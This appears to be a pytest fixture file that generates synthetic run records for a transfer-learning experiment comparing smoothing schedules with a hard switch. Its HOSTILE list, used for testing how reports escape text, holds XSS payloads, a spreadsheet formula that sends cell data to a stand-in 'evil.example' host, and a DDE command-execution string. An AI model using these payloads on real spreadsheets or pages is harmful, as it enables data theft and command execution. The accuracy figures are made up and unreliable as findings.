"""Synthetic records shaped like those of the supervised family; no training, no torch."""

from __future__ import annotations

import copy
import hashlib
import json
import math
from collections.abc import Callable
from typing import Any

import numpy as np
import pytest

from segue.runs.records import Record

SHIFTS = {
    "blur": 2.6, "class_split": 1.9, "colour_inversion": 1.2, "contrast": 0.2, "gaussian_noise": 1.6,
    "label_permutation": 3.4, "pixel_permutation": -1.7, "random_labels": 0.4, "warm_start": -0.1,
}  # fmt: skip
"""Shift → points by which smoothing is ahead of the hard switch."""

BASES = {
    "shape": "hard_switch",
    "num_smoothing_steps": 0,
    "initial_weight": 1.0,
    "final_weight": 0.0,
}
RAMP = {**BASES, "shape": "linear", "num_smoothing_steps": 150}
METHODS: dict[str, tuple[float, dict[str, Any]]] = {
    "hard_switch": (0.0, {}),
    "smoothing": (1.0, {"schedule": RAMP}),
    "constant_mix_throughout": (
        -0.8,
        {"schedule": {**BASES, "shape": "constant", "initial_weight": 0.5}},
    ),
    "fresh_head": (0.55, {"initialization": "fresh_head"}),
    "from_scratch": (-2.0, {"initialization": "scratch"}),
    "l2sp": (0.3, {"l2sp_scale": 0.01}),
    "lr_warmup": (0.1, {"num_warmup_steps": 150}),
    "target_ramp": (-0.3, {"schedule": RAMP, "source_term": "nothing"}),
}
"""Method → its share of the shift's effect, and what differs from the hard switch."""

PROVENANCE = {
    "versions": {"python": "3.11.9", "segue": "0.1.0", "torch": "2.13.0", "numpy": "2.2.1"},
    "commit": "0123456789abcdef0123456789abcdef01234567",
    "uncommitted_changes": False,
    "platform": "Linux-6.1-x86_64",
    "cpu": "Synthetic CPU @ 2.00GHz",
    "num_cores": 2,
    "num_threads": 1,
    "command": "segue run supervised --preset standard",
}


def method_config(name: str, **changes: Any) -> dict[str, Any]:
    config: dict[str, Any] = {
        "name": name, "schedule": dict(BASES), "source_term": "replay", "mode": "mix",
        "num_bank_examples": 256, "replay_batch_size": 64, "initialization": "source",
        "num_warmup_steps": 0, "l2sp_scale": 0.0, "sam_radius": 0.0,
    }  # fmt: skip
    config.update(copy.deepcopy(changes))
    return config


def build(
    shift: str,
    method: dict[str, Any],
    seed: int,
    gain: float,
    *,
    split: str = "test",
    num_steps: int = 600,
    num_examples: int = 1000,
    rate: float = 0.05,
    optimizer: str = "sgd",
    norm: str = "group",
    error: dict[str, str] | None = None,
    accuracy: float | None = -1.0,
    curves: bool = True,
) -> Record:
    """One run whose final accuracy is the shift's base + gain (in points) + noise of its seed."""
    config = {
        "shift": {"name": shift, "severity": None},
        "source": {
            "dataset": "cifar10", "source_task": "all", "seed": seed, "num_training_steps": 4000,
            "model": {"widths": [40, 80, 160], "norm": norm}, "batch_size": 64,
            "optimizer": {"name": "sgd", "learning_rate": 0.1, "weight_decay": 5e-4},
        },
        "method": method, "seed": seed, "num_target_examples": num_examples,
        "num_target_steps": num_steps, "batch_size": 64, "batch_norm": "shared", "split": split,
        "optimizer": {"name": optimizer, "learning_rate": rate, "weight_decay": 5e-4},
        "num_curve_examples": 1000,
    }  # fmt: skip
    digest = hashlib.sha256(json.dumps(config, sort_keys=True).encode()).hexdigest()
    rng = np.random.default_rng(int(digest[:8], 16))
    shared = np.random.default_rng([seed, len(shift)])
    base = 0.48 + 0.03 * list(SHIFTS).index(shift) if shift in SHIFTS else 0.6
    final = base + 0.01 * gain + 0.012 * shared.standard_normal() + 0.004 * rng.standard_normal()
    before = 0.1 + 0.4 * shared.random()
    k = method["schedule"]["num_smoothing_steps"]
    points: dict[str, Any] = {}
    spent = num_steps * 64 + (k * 64 if method["source_term"] == "replay" else 0)
    steps = sorted({0, 5, 10, 20, 40, *range(60, num_steps, num_steps // 12), num_steps})
    start, keep = 0.75, 0.2 + 0.15 * (k > 0)
    target, source = [], []
    for t in steps:
        dip = (0.12 if k == 0 else 0.04) * math.exp(-(((t - 12) / 10.0) ** 2)) if t else 0.0
        late = 1.0 - math.exp(-t / (0.16 * num_steps + 0.5 * k))
        target.append(before + (final - before) * late - dip + 0.003 * rng.standard_normal())
        source.append(start - (start - keep) * (1.0 - math.exp(-t / (30.0 + k))))
    target[-1] = final
    if curves:
        shape = method["schedule"]["shape"]
        weights = [
            0.5 if shape == "constant" else max(0.0, 1.0 - t / k) if k else 0.0 for t in steps
        ]
        points = {
            "target_accuracy": {"step": steps, "value": [float(v) for v in target]},
            "source_accuracy": {"step": steps, "value": [float(v) for v in source]},
            "source_weight": {"step": steps, "value": weights},
        }
    metrics = {
        "target_accuracy": float(final) if accuracy == -1.0 else accuracy,
        "source_accuracy": float(source[-1]), "source_accuracy_before": start,
        "target_accuracy_before": float(before), "lowest_target_accuracy": float(min(target[1:])),
        "num_gradient_examples": spent,
    }  # fmt: skip
    return Record(
        run_id=digest[:16],
        family="supervised",
        kind="target",
        config=config,
        status="failed" if error else "completed",
        error=error,
        metrics={} if error else metrics,
        curves={} if error else points,
        provenance={**PROVENANCE, "seeds": {"seed": seed}},
        timing={"wall_seconds": 20.0 + seed, "started_at": "2026-01-01T00:00:00+00:00"},
    )


def synthetic_records(
    *,
    num_seeds: int = 10,
    shifts: tuple[str, ...] = tuple(SHIFTS),
    methods: tuple[str, ...] = tuple(METHODS),
    tuning: bool = True,
    ablations: bool = True,
    short_budget: bool = True,
    broken: bool = True,
) -> list[Record]:
    """Records of a whole experiment; see the arguments for its parts."""
    records = []
    for shift in shifts:
        effect = SHIFTS.get(shift, 1.0)
        for name in methods:
            share, changes = METHODS[name]
            method = method_config(name, **changes)
            for seed in range(num_seeds):
                kind: dict[str, Any] = {}
                if broken and (shift, name, seed) == ("contrast", "from_scratch", 3):
                    kind["error"] = {
                        "type": "FloatingPointError",
                        "message": "the loss is nan at step 41",
                        "traceback": "Traceback ...",
                    }
                if broken and (shift, name, seed) == ("contrast", "l2sp", 2):
                    kind["accuracy"] = math.nan
                records.append(build(shift, method, seed, share * effect, **kind))
            for seed in (1000, 1001) if tuning else ():
                for rate in (0.02, 0.05, 0.1):
                    loss = 3.0 * abs(math.log(rate / 0.05))
                    gain = share * effect - loss
                    records.append(
                        build(
                            shift, method, seed, gain, split="validation", rate=rate, curves=False
                        )
                    )
            if short_budget and name in ("hard_switch", "smoothing", "fresh_head"):
                for seed in range(num_seeds):
                    gain = 1.6 * share * effect - 6.0
                    records.append(build(shift, method, seed, gain, num_steps=300))
    if ablations:
        records += ablation_records(num_seeds, shifts)
    return records


def ablation_records(num_seeds: int, shifts: tuple[str, ...]) -> list[Record]:
    records = []
    for shift in [s for s in ("blur", "gaussian_noise", "label_permutation") if s in shifts]:
        for seed in range(min(num_seeds, 6)):

            def smoothing(
                gain: float, schedule: dict[str, Any] | None = None, *, _at: Any = (shift, seed),
                changes: dict[str, Any] | None = None, **other: Any,
            ) -> None:  # fmt: skip
                method = method_config("smoothing", schedule=schedule or RAMP, **(changes or {}))
                records.append(build(_at[0], method, _at[1], gain, curves=False, **other))

            effect = SHIFTS[shift]
            for k, share in ((30, 0.4), (300, 0.8), (600, -0.9)):
                smoothing(share * effect, {**RAMP, "num_smoothing_steps": k})
            for bank, share in ((64, 0.7), (1024, 1.05), (None, 1.1)):
                smoothing(share * effect, changes={"num_bank_examples": bank})
            for shape, share in (("cosine", 1.0), ("exponential", 0.6)):
                smoothing(share * effect, {**RAMP, "shape": shape})
            for other in ({"optimizer": "adamw"}, {"norm": "batch"}, {"num_examples": 5000}):
                smoothing(0.5 * effect, **other)
                records.append(build(shift, method_config("hard_switch"), seed, 0.0, **other))
    return records


HOSTILE = [
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror='window.pwned=1'>",
    "<b>bold</b><a href='javascript:window.pwned=1'>link</a>",
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "+cmd|' /C calc'!A0",
    "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "</script><script>window.pwned=1</script>",
    "{{ 7*7 }}{% raw %}", "%{x} ${1+1} $\\href{javascript:window.pwned=1}{x}$",
    "\u202eevil\u202c", "שלום עולם", "مرحبا", "日本語のラベル", "a\x00b\x1b[31mred\x07",
    "x" * 300, "\ud800", "&lt;b&gt; &amp;amp;", "__proto__", "#0b62c4",
]  # fmt: skip


def hostile_records() -> list[Record]:
    """Hostile text in every place that a record has for text."""
    records = []
    for i, text in enumerate(HOSTILE):
        for seed in range(2):
            for name, gain in (("hard_switch", 0.0), ("smoothing", 1.0), (text, 0.5)):
                method = method_config(name, **({"schedule": RAMP} if name == "smoothing" else {}))
                record = build(text, method, seed, gain)
                record.provenance.update(
                    command=text, cpu=text, commit=text, versions={text: text, "torch": text}
                )
                record.timing["started_at"] = text
                records.append(record)
        error = {"type": text, "message": text, "traceback": text}
        records.append(build(text, method_config(text), 7, 0.0, error=error))
        records.append(build("blur", method_config("smoothing", mode=text, schedule=RAMP), i, 0.0))
        records[-1].metrics["target_accuracy"] = text  # not even a number
        records.append(
            build(text, method_config("smoothing", schedule=RAMP), 8, 1.0, optimizer=text)
        )
    return records


@pytest.fixture(scope="session")
def make_records() -> Callable[..., list[Record]]:
    return synthetic_records


@pytest.fixture(scope="session")
def records() -> list[Record]:
    return synthetic_records()


@pytest.fixture(scope="session")
def hostile() -> list[Record]:
    return hostile_records()


@pytest.fixture(scope="session")
def hostile_texts() -> list[str]:
    return HOSTILE


@pytest.fixture
def make_record() -> Callable[..., Record]:
    """``make_record(shift, method, seed, gain, **settings)``: one run of a method by name."""

    def make(shift: str, method: str, seed: int, gain: float, **settings: Any) -> Record:
        return build(shift, method_config(method, **METHODS[method][1]), seed, gain, **settings)

    return make
